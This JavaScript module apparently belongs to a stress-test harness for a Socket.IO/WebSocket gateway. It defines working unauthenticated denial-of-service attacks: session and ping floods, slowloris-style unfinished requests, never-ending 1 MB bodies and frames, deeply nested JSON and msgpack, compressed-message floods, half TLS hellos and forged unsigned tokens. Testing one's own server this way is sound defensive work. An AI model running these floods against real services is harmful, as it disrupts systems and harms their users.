/**
 * Attacks without a token or an admitted session.
 */
import { setTimeout as delay } from 'node:timers/promises'
import zlib from 'node:zlib'
import { emptyMaps, nested, nestedKeys, packet } from './values.js'
import {
  BINARY, floodFrames, fragments, frame, hold, keepBusy, Line, PING, PONG, TEXT, upgradeRequest
} from './wire.js'

/**
 * @typedef {import('./wire.js').Target} Target
 * @typedef {import('./wire.js').Sent} Sent
 * @typedef {(target: Target) => Promise<Sent>} Attack
 */

const MB = 2 ** 20
/** A message at the size limit for admitted clients. */
const LARGE = 1_060_000
const POLLING = '/socket.io/?EIO=4&transport=polling'
const get = (/** @type {string} */ query, /** @type {string[]} */ headers = []) =>
  [`GET ${POLLING}${query} HTTP/1.1`, 'Host: 127.0.0.1', ...headers, '', ''].join('\r\n')
const post = (/** @type {string} */ sid, /** @type {number} */ length) =>
  [
    `POST ${POLLING}&sid=${sid} HTTP/1.1`,
    'Host: 127.0.0.1',
    'Content-Type: text/plain',
    `Content-Length: ${length}`,
    '',
    ''
  ].join('\r\n')

/** @param {Line} line @returns {Promise<string | undefined>} sid of a new polling session */
async function begin (line) {
  await line.write(get(''))
  return (await line.answer(/"sid":"([^"]+)"/))?.[1]
}

/** @param {object} [options] @param {string} [options.query] @param {string[]} [options.headers] @returns {Attack} */
const pollingSessions = ({ query = '', headers = [] } = {}) => (target) => keepBusy(target, 8, async (line, until) => {
  // a connection may have eight without an answer
  const requests = get(query, headers).repeat(8)
  while (!line.ended && performance.now() < until) {
    await line.write(requests)
    await delay(20) // 3,200 a second from all lines
  }
})

/** Kinds of unfinished lines. @type {Record<string, (line: Line) => Promise<unknown>>} */
const UNFINISHED = {
  'one byte': (line) => line.write('G'),
  nothing: async () => {},
  'half a head': (line) => line.write('GET /socket.io/?EIO=4&transport=polling HTTP/1.1\r\nHost: x\r\n'),
  'half a body': (line) =>
    line.write('POST /socket.io/?EIO=4&transport=polling HTTP/1.1\r\nHost: x\r\nContent-Length: 100\r\n\r\nabc'),
  'an upgrade elsewhere': (line) => line.write(upgradeRequest({ path: '/elsewhere/' })),
  'no HTTP': (line) => line.write('\x16\x03\x01 hello\r\n\r\n'),
  'a slow head': async (line) => {
    await line.write('GET /socket.io/ HTTP/1.1\r\n')
    const timer = setInterval(() => (line.ended ? clearInterval(timer) : line.write('X-A: b\r\n')), 2000)
    line.socket.once('close', () => clearInterval(timer))
  },
  'a WebSocket without a packet': (line) => line.write(upgradeRequest()),
  'requests of a session on WebSocket': async (line) => {
    const sid = await begin(line)
    const other = new Line({ port: line.port })
    await other.write(upgradeRequest({ query: `&transport=websocket&sid=${sid}` }))
    await other.answer(/ 101 /)
    await other.write(Buffer.concat([frame(TEXT, '2probe'), frame(TEXT, '5')]))
    await delay(100)
    await line.write(post(sid ?? 'x', 10))
  }
}

/** @type {Record<string, Attack>} */
export const ANONYMOUS = {
  'polling sessions': pollingSessions(),
  'polling sessions with 14 KB of headers': pollingSessions({
    headers: Array.from({ length: 14 }, (_, i) => `X-Filler-${i}: ${'x'.repeat(1000)}`)
  }),
  'polling sessions with an empty sid': pollingSessions({ query: '&sid=' }),
  'sessions of workers that do not exist': pollingSessions({ query: '&sid=ZZ0000000000000000zz' }),

  'bodies of 1 MB that do not end': (target) =>
    hold(
      target,
      1200,
      async (line) => {
        const sid = await begin(line)
        if (sid === undefined) return
        await line.write(post(sid, LARGE))
        await line.write(Buffer.alloc(LARGE - 1000, 'x'))
      },
      { atOnce: 20 }
    ),

  'frames that claim 1 MB': (target) =>
    hold(target, 8000, async (line) => {
      await line.write(upgradeRequest())
      if ((await line.answer(/ 101 /)) !== null) await line.write(frame(TEXT, '4', { claimed: LARGE }))
    }),

  'frames of 1 MB that do not end': (target) =>
    hold(
      target,
      1200,
      async (line) => {
        await line.write(upgradeRequest())
        if ((await line.answer(/ 101 /)) === null) return
        await line.write(frame(TEXT, Buffer.alloc(LARGE - 1000, 'x'), { claimed: LARGE }))
      },
      { atOnce: 20 }
    ),

  'unfinished lines': async (target) => {
    const kinds = Object.values(UNFINISHED)
    const [gateway, api] = await Promise.all([
      hold(target, 100 * kinds.length, (line, i) => kinds[i % kinds.length](line)),
      hold(target, 400, (line, i) => kinds[i % 4](line), { port: target.apiPort })
    ])
    // only the server may close them
    return { connections: gateway.connections + api.connections, bytes: gateway.bytes + api.bytes }
  },

  pings: (target) => {
    const many = Buffer.concat(Array.from({ length: 1000 }, () => frame(PING)))
    return floodFrames(target, 4, () => many)
  },
  pongs: (target) => {
    const many = Buffer.concat(Array.from({ length: 2000 }, () => frame(PONG)))
    return floodFrames(target, 4, () => many)
  },
  'messages in 1,023 empty fragments': (target) => {
    const message = fragments(TEXT, 1021)
    return floodFrames(target, 4, () => message)
  },

  // up to the read limit before a token, and up to the one after it
  'deep JSON of 60 KB': (target) => floodFrames(target, 4, jsonOf(`{"token":${nested(30_000)}}`), { pause: 10 }),
  'broad JSON of 60 KB': (target) =>
    floodFrames(target, 4, jsonOf(`{"token":[${'[],'.repeat(20_000)}0]}`), { pause: 10 }),
  'broad JSON of 1 MB': (target) =>
    floodFrames(target, 4, jsonOf(`{"token":[${'[],'.repeat(300_000)}0]}`), { pause: 10 }),
  'deep msgpack': (target) => floodFrames(target, 4, msgpackOf(Buffer.alloc(60_000, 0x91)), { pause: 10 }),
  'broad msgpack of 60 KB': (target) => floodFrames(target, 4, msgpackOf(emptyMaps(60_000)), { pause: 10 }),
  'broad msgpack of 1 MB': (target) => floodFrames(target, 4, msgpackOf(emptyMaps(1_000_000)), { pause: 10 }),
  'msgpack maps with arrays as keys, of 60 KB': (target) =>
    floodFrames(target, 4, msgpackOf(nestedKeys(900, 60_000)), { pause: 10 }),
  'msgpack maps with arrays as keys, of 1 MB': (target) =>
    floodFrames(target, 4, msgpackOf(nestedKeys(900, MB)), { pause: 10 }),
  'unsigned tokens of new connections': (target) => {
    const tokens = Array.from({ length: 10 }, (_, i) =>
      frame(
        TEXT,
        `40{"token":"eyJhbGciOiJIUzI1NiJ9.${Buffer.from(`{"sub":"u${i}"}`).toString('base64url')}.${'x'.repeat(43)}"}`
      )
    )
    return floodFrames(target, 8, () => tokens, { pause: 10 })
  }
}

/** Only where the gateway compresses. @type {Record<string, Attack>} */
export const COMPRESSED = {
  'compressed messages of 1 MB': (target) => {
    const deflated = zlib
      .deflateRawSync(Buffer.alloc(LARGE - 5000, '3'), { finishFlush: zlib.constants.Z_SYNC_FLUSH })
      .subarray(0, -4)
    const message = frame(TEXT, deflated, { compressed: true })
    return floodFrames(target, 4, () => message, {
      headers: ['Sec-WebSocket-Extensions: permessage-deflate'],
      pause: 5
    })
  }
}

/** Only where the gateway speaks TLS itself. @type {Record<string, Attack>} */
export const SECURE = {
  'TLS without a byte, or half a hello': (target) => hold({ ...target, secure: false }, 1000, async (line, i) => {
    if (i % 2 === 0) await line.write(Buffer.from('16030102000100', 'hex'))
  })
}

/** @param {string} auth */
function jsonOf (auth) {
  const bytes = frame(TEXT, `40${auth}`)
  return () => bytes
}

/** @param {Buffer} auth the bytes of a CONNECT packet's data */
function msgpackOf (auth) {
  const bytes = frame(BINARY, packet(0, auth))
  return () => bytes
}
